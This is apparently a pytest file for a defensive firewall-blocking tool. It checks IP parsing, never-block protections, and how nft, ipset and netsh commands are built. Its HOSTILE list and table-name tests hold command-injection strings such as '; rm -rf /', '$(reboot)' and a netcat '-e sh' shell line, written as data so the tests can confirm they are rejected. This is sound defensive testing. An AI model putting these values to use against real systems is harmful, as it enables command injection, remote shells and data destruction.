"""Strict parsing and the never-block rules; hostile strings never reach a command line."""

from __future__ import annotations

import ipaddress
import subprocess
from collections.abc import Sequence
from typing import Any

import pytest

from garrison.correlate.addresses import parse_ip
from garrison.events import Severity
from garrison.respond import netsh
from garrison.respond.backend import Runner
from garrison.respond.guard import BlockGuard, BlockRefused, dns_servers, ssh_peer
from garrison.respond.ipset import IpsetBackend
from garrison.respond.nft import NftBackend

from .conftest import ev

HOSTILE = [
    "203.0.113.5; rm -rf /", "$(reboot)", "`id`", "203.0.113.5 && curl x", "203.0.113.5\n",
    " 203.0.113.5", "203.0.113.5/0", "fe80::1%eth0;id", "fe80::1%eth0", "::1' OR 1=1",
    "A" * 100_000, "203.0.113.5|nc -e sh x 1", "-j ACCEPT", "--flush", "", "0x7f000001",
    "2001:db8::1/64", "\u0663.\u0663.\u0663.\u0663", "203.0.113.05x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_parse_rejects_hostile_strings(value: str) -> None:
    with pytest.raises(ValueError):
        parse_ip(value)


def test_parse_canonicalises() -> None:
    assert str(parse_ip("2001:DB8:0:0::1")) == "2001:db8::1"
    assert parse_ip("::ffff:203.0.113.9") == ipaddress.ip_address("203.0.113.9")
    with pytest.raises(ValueError):
        parse_ip(12345)


def test_never_block_rules() -> None:
    guard = BlockGuard(allowlist=[ipaddress.ip_network("203.0.113.0/28")],
                       protected=[ipaddress.ip_address("198.51.100.1")])
    for ip in ("127.0.0.1", "10.0.0.1", "172.16.5.5", "192.168.0.1", "169.254.1.1",
               "100.64.0.1", "224.0.0.1", "255.255.255.255", "0.0.0.0", "::1", "::",
               "fd12::1", "fe80::1", "ff02::1", "203.0.113.7", "198.51.100.1"):
        with pytest.raises(BlockRefused):
            guard.check(ip)
    assert str(guard.check("203.0.113.50")) == "203.0.113.50"
    assert str(guard.check("2001:db8:2::50")) == "2001:db8:2::50"


def test_ssh_peer_gateway_and_dns_are_protected(tmp_path: Any) -> None:
    assert str(ssh_peer({"SSH_CONNECTION": "203.0.113.77 52311 198.51.100.1 22"})) == \
        "203.0.113.77"
    assert ssh_peer({"SSH_CONNECTION": "$(id) 1 2 3"}) is None
    conf = tmp_path / "resolv.conf"
    conf.write_text("# x\nnameserver 203.0.113.53\nnameserver ;id\nnameserver 2001:db8::53\n")
    assert {str(a) for a in dns_servers(conf)} == {"203.0.113.53", "2001:db8::53"}
    guard = BlockGuard.for_host([], environ={"SSH_CONNECTION": "203.0.113.77 1 2 3"})
    with pytest.raises(BlockRefused):
        guard.check("203.0.113.77")


class RecordingRunner(Runner):
    """Records every command instead of running it (the backends' command construction)."""

    def __init__(self) -> None:
        super().__init__()
        self.commands: list[tuple[list[str], str | None]] = []

    def __call__(self, args: Sequence[str], stdin: str | None = None,
                 check: bool = True) -> subprocess.CompletedProcess[str]:
        self.commands.append((list(args), stdin))
        return subprocess.CompletedProcess(list(args), 0, '{"nftables": []}', "")


def test_hostile_events_never_reach_a_command_line(engine_factory: Any) -> None:
    engine, svc, _ = engine_factory(firewall={"block_unverified": True,
                                                 "auto_block_severity": "low"})
    runner = RecordingRunner()
    svc.firewall.backend = NftBackend(runner)
    svc.firewall.config = svc.firewall.config.model_copy(update={"backend": "nftables"})
    for i, bad in enumerate(HOSTILE):
        engine.emit(ev("honeypot", bad, 100.0 + i, Severity.CRITICAL, verified=True,
                       service=bad, user=bad))
        engine.emit(ev("scan", bad, 100.0 + i, Severity.CRITICAL, verified=True))
    assert svc.counters["bad_actor"] == 2 * (len(HOSTILE) - 1)  # "" means no actor
    engine.emit(ev("honeypot", "203.0.113.50", 200.0, Severity.CRITICAL, verified=True,
                   service="$(reboot)"))
    text = "\n".join(" ".join(a) + "\n" + (s or "") for a, s in runner.commands)
    assert "203.0.113.50" in text
    for bad in ("rm -rf", "$(", "`", "&&", "|nc", "eth0", "reboot", "AAAA"):
        assert bad not in text
    for args, _ in runner.commands:
        assert args[0] == "nft"
    with pytest.raises(ValueError):
        svc.block("203.0.113.5; rm -rf /")
    with pytest.raises(ValueError):
        svc.unblock("$(reboot)")


def test_ipset_commands_are_argument_lists() -> None:
    runner = RecordingRunner()
    b = IpsetBackend(runner, table="garrison")
    b.setup()
    b.add([(ipaddress.ip_address("203.0.113.9"), 60),
           (ipaddress.ip_address("2001:db8:2::9"), 3600)])
    cmds = runner.commands
    assert cmds[0][0] == ["ipset", "create", "garrison4", "hash:ip", "family", "inet",
                          "timeout", "0", "-exist"]
    assert (["ipset", "restore", "-exist"],
            "add garrison4 203.0.113.9 timeout 60\nadd garrison6 2001:db8:2::9 timeout 3600\n"
            ) in cmds
    with pytest.raises(ValueError):
        IpsetBackend(runner, table="x; rm")
    with pytest.raises(ValueError):
        NftBackend(runner, table="t ; flush ruleset")


def test_netsh_command_construction() -> None:
    a = ipaddress.ip_address("203.0.113.9")
    assert netsh.block_commands(a) == [[
        "netsh", "advfirewall", "firewall", "add", "rule", "name=Garrison block 203.0.113.9",
        "dir=in", "action=block", "remoteip=203.0.113.9", "enable=yes", "profile=any"]]
    assert netsh.unblock_commands(ipaddress.ip_address("2001:db8::1")) == [[
        "netsh", "advfirewall", "firewall", "delete", "rule", "name=Garrison block 2001:db8::1"]]
    runner = RecordingRunner()
    b = netsh.NetshBackend(runner)
    assert not b.kernel_expiry  # the responder must expire Windows blocks itself
    b.add([(a, 60)])
    assert [c[0][3] for c in runner.commands] == ["delete", "add"]


def test_manual_block_refuses_protected_and_escalates(engine_factory: Any) -> None:
    _, svc, seen = engine_factory(firewall={"allowlist": ["203.0.113.0/28"],
                                            "block_duration": "10m", "escalation": 3,
                                            "max_block_duration": "1h"})
    for ip in ("127.0.0.1", "10.0.0.9", "203.0.113.3", "fe80::1"):
        with pytest.raises(BlockRefused):
            svc.block(ip)
    durations = []
    for _ in range(4):
        rec = svc.block("203.0.113.50")
        durations.append(rec.duration)
        svc.unblock("203.0.113.50")
    assert durations == [600, 1800, 3600, 3600]  # x3 each offence, capped at 1h
    assert svc.block("2001:db8:2::50", "90s").duration == 90
    names = [e.name for e in seen]
    assert names.count("blocked") == 5 and names.count("unblocked") == 4
    blocked = [e for e in seen if e.name == "blocked"][-1]
    assert blocked.detail["ip"] == "2001:db8:2::50" and blocked.detail["until"] > 0
    assert [b["ip"] for b in svc.blocks()] == ["2001:db8:2::50"]


def test_dry_run_records_and_logs_but_runs_nothing(engine_factory: Any) -> None:
    _, svc, seen = engine_factory(firewall={"dry_run": True})
    runner = RecordingRunner()
    svc.firewall.backend = NftBackend(runner)
    rec = svc.block("203.0.113.50", 60)
    assert rec.dry_run and runner.commands == []
    assert svc.blocks()[0]["dry_run"] == 1
    assert [e.detail["dry_run"] for e in seen if e.name == "blocked"] == [True]


def test_backend_choice_and_fallback(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from garrison.respond.backend import NoBackend
    from garrison.respond.service import make_backend

    from .conftest import config

    nft_cfg = config(tmp_path, firewall={"backend": "nftables"})
    ipt_cfg = config(tmp_path, firewall={"backend": "iptables"})
    assert isinstance(make_backend(config(tmp_path)), NoBackend)
    assert isinstance(make_backend(ipt_cfg), IpsetBackend)
    assert isinstance(make_backend(nft_cfg, platform="win32"), netsh.NetshBackend)
    # A host with ipset but no nft: PATH holds only an ipset executable.
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "ipset").write_text("#!/bin/sh\nexit 0\n")
    (bindir / "ipset").chmod(0o755)
    monkeypatch.setenv("PATH", str(bindir))
    assert isinstance(make_backend(nft_cfg), IpsetBackend)
    monkeypatch.setenv("PATH", "/nonexistent")
    assert isinstance(make_backend(nft_cfg), NftBackend)  # neither: nft, which fails loudly
